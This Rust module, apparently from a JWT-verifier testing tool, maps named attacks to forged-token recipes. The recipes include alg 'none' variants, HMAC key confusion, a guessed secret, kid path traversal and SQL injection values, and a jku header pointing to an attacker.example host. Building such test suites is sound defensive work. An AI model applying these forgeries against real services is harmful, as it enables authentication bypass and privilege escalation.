//! How each attempt is made: what is changed, and who signs.

use super::Attack;

/// What goes into a forged token.
pub(super) struct Recipe {
    /// Members of the header, each with its value as JSON.
    pub(super) changes: &'static [(&'static str, &'static str)],
    /// The claims.
    pub(super) claims: Claims,
    /// The signature.
    pub(super) signs: Signs,
}

#[derive(Clone, Copy)]
pub(super) enum Claims {
    /// Those of the original.
    Own,
    /// Those of somebody who may do everything.
    Admin,
    /// Those of an issuer that nobody trusts.
    OtherIssuer,
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Signs {
    /// Filler stands for the signature of the original.
    Filler,
    /// There is no signature.
    Nobody,
    /// Zeros, in a token that says that it is signed by ECDSA.
    Zeros,
    /// Whoever has this secret.
    Secret(&'static str),
    /// Whoever has the public key as PEM, which is everybody; of a token that is not signed with a secret.
    PublicKey,
    /// The same, as JSON.
    PublicJwk,
    /// The forger, with a key of its own.
    Forger,
}

/// How an attempt is made; none of the original itself.
pub(super) const fn recipe(attack: Attack) -> Option<Recipe> {
    use Claims::{Admin, OtherIssuer, Own};
    use Signs::{Filler, Forger, Nobody, PublicJwk, PublicKey, Secret, Zeros};
    let (changes, claims, signs): (&'static [(&'static str, &'static str)], _, _) = match attack {
        Attack::Expired => return None,
        Attack::PayloadChanged | Attack::JsonForm => (&[], Admin, Filler),
        Attack::SignatureStripped => (&[], Own, Nobody),
        Attack::SignatureBlank => (&[], Admin, Zeros),
        Attack::AlgNone => (&[("alg", r#""none""#)], Admin, Nobody),
        Attack::AlgNoneCase => (&[("alg", r#""NoNe""#)], Admin, Nobody),
        Attack::HmacConfusion => (&[], Admin, PublicKey),
        Attack::HmacConfusionJwk => (&[], Admin, PublicJwk),
        Attack::SecretGuessed => (&[], Admin, Secret("secret")),
        Attack::KidPath => (&[("kid", r#""../../../../../../dev/null""#)], Admin, Secret("")),
        Attack::KidQuery => (&[("kid", r#""x' UNION SELECT 'secret""#)], Admin, Secret("secret")),
        Attack::JkuElsewhere => (&[("jku", r#""https://attacker.example/jwks.json""#)], Admin, Forger),
        Attack::EmbeddedKey => (&[], Admin, Forger),
        Attack::IssuerSwapped => (&[], OtherIssuer, Forger),
        Attack::TypeSwapped => (&[("typ", r#""logout+jwt""#)], Own, Filler),
        Attack::CritUnknown => (&[("crit", r#"["urn:example:pay"]"#), ("urn:example:pay", "true")], Own, Filler),
        Attack::UnencodedPayload => (&[("b64", "false")], Own, Filler),
        Attack::Compressed => (&[("zip", r#""DEF""#)], Own, Filler),
        Attack::Nested => (&[("cty", r#""JWT""#)], Own, Filler),
        Attack::Encrypted => (&[("alg", r#""RSA-OAEP-256""#), ("enc", r#""A256GCM""#)], Own, Filler),
        Attack::KidSwap
        | Attack::DuplicateMember
        | Attack::DuplicateHeader
        | Attack::Base64Padding
        | Attack::Base64Whitespace => (&[], Own, Filler),
    };
    Some(Recipe { changes, claims, signs })
}
